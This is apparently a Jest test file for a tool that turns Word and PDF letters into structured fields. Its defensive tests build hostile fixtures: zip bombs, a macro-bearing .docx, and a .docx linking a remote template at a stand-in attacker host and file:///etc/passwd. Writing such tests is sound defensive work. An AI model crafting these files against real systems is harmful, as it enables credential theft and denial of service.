// Word and PDF letters: the seed letters as an office would have them (made here from
// examples/vru-2020/letters, test/support/office-letters.ts) give the same fields as the
// text versions; a scan is reported plainly; hostile files are refused with a message.
import fs from 'node:fs';
import path from 'node:path';
import { parseLetter, type ParsedLetter } from '../domain/letter-file';
import { docxToLetterHtml } from '../domain/letter-file/docx';
import { OFFICE_LIMITS, type ConvertedLetter } from '../domain/letter-file/office';
import { pdfToLetterHtml } from '../domain/letter-file/pdf';
import {
  SEEDS, SEED_DIR, docxParts, encryptedPdf, manyPagesPdf, scannedPdf, seedDocx, seedPdf, zipOf,
} from './support/office-letters';

function fields(r: ParsedLetter) {
  const v = <T>(i: { value: T } | undefined) => i?.value;
  return {
    date: v(r.date),
    recipientName: v(r.recipientName),
    role: v(r.role),
    organisation: v(r.organisation),
    address: v(r.address),
    postcode: v(r.postcode),
    salutation: v(r.salutation),
    documents: r.documents.value,
    alreadyPublished: r.alreadyPublished.value,
    coordinator: r.coordinator && { name: r.coordinator.name.value, email: r.coordinator.email.value, role: v(r.coordinator.role) },
    publicationRequested: r.publicationRequested.value,
    requestSentence: v(r.requestSentence),
    footnotes: r.footnotes.map((f) => ({ mark: f.mark, text: f.text })),
  };
}

function parseConverted(c: ConvertedLetter): ParsedLetter {
  expect(c.issues.filter((i) => i.level === 'error')).toEqual([]);
  return parseLetter({ fileName: `letter.${c.format}`, text: c.html, format: 'html' });
}

const fromText = (id: string) => parseLetter({ fileName: `${id}.md`, text: fs.readFileSync(path.join(SEED_DIR, `${id}.md`), 'utf8') });

describe.each(SEEDS)('%s', (id) => {
  test('.docx (letterhead header, footnotes, page break inside the request sentence): the same fields as the text letter', async () => {
    const converted = await docxToLetterHtml(await seedDocx(id));
    const parsed = parseConverted(converted);
    expect(fields(parsed)).toEqual(fields(fromText(id)));
    expect(parsed.documents.value.length).toBeGreaterThan(0);
    // The letterhead and page numbers are not letter text.
    expect(converted.html).not.toContain('Globe House · London');
    expect(converted.html).not.toMatch(/Page \d/);
  });

  test('.pdf (two pages or more, running header, page numbers, footnotes at the foot of the page): the same fields as the text letter', async () => {
    const converted = await pdfToLetterHtml(await seedPdf(id));
    expect(converted.pages).toBeGreaterThanOrEqual(2);
    const parsed = parseConverted(converted);
    expect(fields(parsed)).toEqual(fields(fromText(id)));
    expect(converted.html).not.toContain('OFFICIAL');
    expect(converted.html).not.toMatch(/Page \d of \d/);
    // Positions are pages and paragraphs.
    expect(converted.positions[parsed.requestSentence!.line! - 1]).toMatch(/^page \d, paragraph \d+$/);
  });
});

test('a scanned PDF (an image, no text layer) is reported plainly, not guessed at', async () => {
  const c = await pdfToLetterHtml(await scannedPdf());
  expect(c.noText).toBe(true);
  expect(c.html).toBe('');
  expect(c.issues).toEqual([{ level: 'warning', line: null, message: 'no text: scanned image; give the recipient and documents in recipients.csv' }]);
});

describe('hostile files are refused with a clear message, or read safely', () => {
  const errorOf = (c: ConvertedLetter) => c.issues.filter((i) => i.level === 'error').map((i) => i.message);

  test('a 50 MB file', async () => {
    const big = Buffer.alloc(50 * 1024 * 1024, 0x20);
    big.write('%PDF-1.4\n');
    expect(errorOf(await pdfToLetterHtml(big))).toEqual(['50 MB: over the 20 MB limit for a PDF letter']);
    expect(errorOf(await docxToLetterHtml(big))).toEqual(['50 MB: over the 20 MB limit for a Word letter']);
  });

  test('a 500-page PDF', async () => {
    expect(errorOf(await pdfToLetterHtml(await manyPagesPdf(500)))).toEqual([`not read: 500 pages; a letter has at most ${OFFICE_LIMITS.pdfPages}`]);
  });

  test('an encrypted PDF', async () => {
    expect(errorOf(await pdfToLetterHtml(encryptedPdf()))).toEqual(['not read: the PDF is encrypted with a password; save or print it again without one']);
  });

  test('not a PDF at all', async () => {
    expect(errorOf(await pdfToLetterHtml(Buffer.from('Dear Sue, this is text')))[0]).toMatch(/^not read: not a PDF that can be read \(/);
  });

  test('a .docx with macros', async () => {
    const parts = await docxParts('kent');
    const withMacros = zipOf([...parts, { name: 'word/vbaProject.bin', data: Buffer.from('Attribute VB_Name = "NewMacros"') }]);
    expect(errorOf(await docxToLetterHtml(withMacros))).toEqual([
      'not read: it contains macros (word/vbaProject.bin); save the letter as a Word Document (.docx) without macros',
    ]);
  });

  test('a .docx with external links (a remote template, a linked picture): read, the links named, nothing fetched', async () => {
    const parts = await docxParts('kent');
    const rels = parts.find((p) => p.name === 'word/_rels/document.xml.rels')!;
    rels.data = Buffer.from(
      rels.data.toString('utf8').replace(
        '</Relationships>',
        '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example.org/t.dotm" TargetMode="External"/>' +
          '<Relationship Id="rIdP" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
      ),
    );
    const fetched = jest.spyOn(globalThis, 'fetch');
    const c = await docxToLetterHtml(zipOf(parts));
    expect(fetched).not.toHaveBeenCalled();
    fetched.mockRestore();
    expect(c.issues.map((i) => i.message)).toEqual([
      'links to an outside file (attachedTemplate: http://attacker.example.org/t.dotm), which was not opened',
      'links to an outside file (image: file:///etc/passwd), which was not opened',
    ]);
    expect(fields(parseConverted(c))).toEqual(fields(fromText('kent')));
  });

  test('a zip bomb named .docx: parts that unpack far past the limit', async () => {
    const zeros = Buffer.alloc(60 * 1024 * 1024);
    const bomb = zipOf([{ name: 'word/document.xml', data: zeros }, { name: 'word/b.xml', data: zeros }]);
    expect(bomb.length).toBeLessThan(200 * 1024);
    expect(errorOf(await docxToLetterHtml(bomb))).toEqual(['not read: it unpacks to more than 100 MB (a zip bomb?); a letter unpacks to a few hundred KB']);
  });

  test('a zip bomb that lies about its sizes', async () => {
    const liar = zipOf([{ name: 'word/document.xml', data: Buffer.alloc(30 * 1024 * 1024), declaredSize: 1000 }]);
    expect(errorOf(await docxToLetterHtml(liar))).toEqual(['not read: part word/document.xml unpacks to more than it declares (a zip bomb?)']);
  });

  test('not a zip file', async () => {
    expect(errorOf(await docxToLetterHtml(Buffer.from('{\\rtf1 Dear Sue}')))).toEqual(['not read: not a zip file (a .docx is one): is it a .doc or another file renamed?']);
  });
});

test('the text of a Word or PDF attachment (for replies): the same readers, plain text', async () => {
  const { extractDocumentText } = await import('../domain/letter-file/extract');
  const REQUEST = 'would be willing to share with my office a copy of';
  for (const [bytes, name] of [[await seedDocx('kent'), 'reply.docx'], [await seedPdf('kent'), 'reply.pdf']] as const) {
    const r = (await extractDocumentText(bytes, name))!;
    expect(r.text.replace(/\s+/g, ' ')).toContain(REQUEST);
    expect(r.text).toContain('[1] Home Office (2019) Funding for Violence Reduction Units announced');
    expect(r.text).not.toContain('<');
  }
  expect(await extractDocumentText(Buffer.from('x'), 'reply.txt')).toBeNull();
  expect((await extractDocumentText(await scannedPdf(), 'scan.pdf'))!.noText).toBe(true);
});
